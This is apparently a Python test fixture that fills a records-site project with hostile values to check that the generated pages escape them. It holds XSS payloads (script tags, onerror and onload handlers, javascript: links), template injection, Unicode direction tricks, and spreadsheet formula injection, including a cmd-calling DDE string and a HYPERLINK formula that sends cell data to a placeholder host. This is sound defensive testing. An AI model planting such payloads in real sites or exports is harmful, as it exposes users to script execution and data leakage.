"""A fixture project whose records carry hostile text in every free-text field that reaches the site.

The payloads are valid data (the check passes), so the real site is built from them; what the schemas refuse
(over-long text, markup in enumerated fields) is covered by the check tests instead.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import yaml
from gitrepo import commit_isolated, run_git
from sitehelpers import REPO, copy_project

FIXTURE = REPO / "tests/data/valid/records"
BRANCH = "records/gongcheng/gongcheng-js1"
FLAG = "window.__zhibu_pwned=1"  # every script payload sets it: the browser tests assert it stays undefined
LONG = "长" * 10_000  # a 10,000-character line: the copied standards raise the topic limit so it reaches the page

TOPICS = [
    f"<script>{FLAG};alert(1)</script>",
    f'<img src=x onerror="{FLAG};alert(2)">',
    "[点我](javascript:alert(3))",
    "| --- | --- | --- |",
    "{{ 7*7 }} {% raw %} {# 注释 <!-- comment",
    "`代码` ``` ***粗体*** __下划__ ~~删~~",
    "A" * 200,  # one unbreakable word as long as the schema allows
    "\u202e右到左覆盖 abc",
    "零\u200b宽\u200d字\ufeff符",
    f'<a href="javascript:{FLAG}">链接</a> &amp; &lt; \\ " \'',
    LONG,
]
BRANCH_NAME = '=HYPERLINK("http://e.invalid/?q="&A1,"点") <b>支部</b> | --- |'
UNIT_NAME = "@SUM(1) [点我](javascript:alert(5)) <!-- comment"
GROUP_NAME = "`组` ***粗*** {% raw %} <!--"
OFFICER_NAMES = ["<svg onload=alert()>", "\u202e反转名"]  # names are at most 20 characters
REASON = f"<script>{FLAG};alert(6)</script> {{{{ 7*7 }}}} | --- |"
APPROVER = f'<img src=x onerror="{FLAG};alert(7)">'
ORG_NAME = "+SUM(1) \u202e<script>alert(8)</script>"
SITE_TITLE = f'-2+3 "</title><script>{FLAG};alert(9)</script>\u200b'
# Shown as 记录最近修改 on branch pages; Git itself drops < and > from names.
AUTHOR = f'x" onmouseover="{FLAG}" [点我](javascript:alert(11)) {{{{ 7*7 }}}} | --- |'
# Standards are data a college may adapt: their text reaches the site and rules.csv too.
RULE_TEXT = {"title": "\t=1+1 规则", "source": "+cmd|' /C calc'!A0", "article": "\r=2+2"}


def _yaml(path: Path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def make_hostile_project(target: Path, git: bool = False) -> Path:
    """A project folder (records, standards, docs, mkdocs.yml) with every payload in place.

    With `git`, the clean fixture is committed and tagged as release 2025.02 first and the payloads committed
    after it, so the changes page describes hostile records too.
    """
    project = copy_project(target, FIXTURE)
    if git:
        run_git(project, "init", "-q", "-b", "main")
        commit_isolated(project, "clean", "2025-02-28T12:00:00+08:00")
        run_git(project, "tag", "2025.02")
    branch = project / BRANCH
    meetings = branch / "meetings.csv"
    with meetings.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row, topic in zip(rows[1:], TOPICS, strict=True):
        row[3] = topic
    with meetings.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)

    def branch_yaml(data: dict) -> None:
        data["name"] = BRANCH_NAME
        data["groups"][0]["name"] = GROUP_NAME
        for holder, name in zip(data["committee"]["members"], OFFICER_NAMES, strict=False):
            holder["name"] = name

    def exemptions(data: dict) -> None:
        data["exemptions"][0].update(reason=REASON, approver=APPROVER)

    def organization(data: dict) -> None:
        data.update(name=ORG_NAME, site_title=SITE_TITLE, show_officer_names=True)

    def rules(data) -> None:
        items = data["rules"] if isinstance(data, dict) else data
        items[0].update(RULE_TEXT)

    _yaml(branch / "branch.yaml", branch_yaml)
    _yaml(branch / "exemptions.yaml", exemptions)
    _yaml(project / "records/gongcheng/unit.yaml", lambda d: d.update(name=UNIT_NAME))
    _yaml(project / "records/organization.yaml", organization)
    _yaml(project / "standards/rules.yaml", rules)
    schema_file = project / "standards/schemas/meetings.schema.json"
    schema = json.loads(schema_file.read_text(encoding="utf-8"))
    for field in schema["fields"]:
        if field["name"] == "topic":
            field["constraints"]["maxLength"] = 20_000
    schema_file.write_text(json.dumps(schema, ensure_ascii=False, indent=2), encoding="utf-8")
    if git:
        commit_isolated(project, "hostile", "2025-03-31T12:00:00+08:00", author=AUTHOR)
    return project
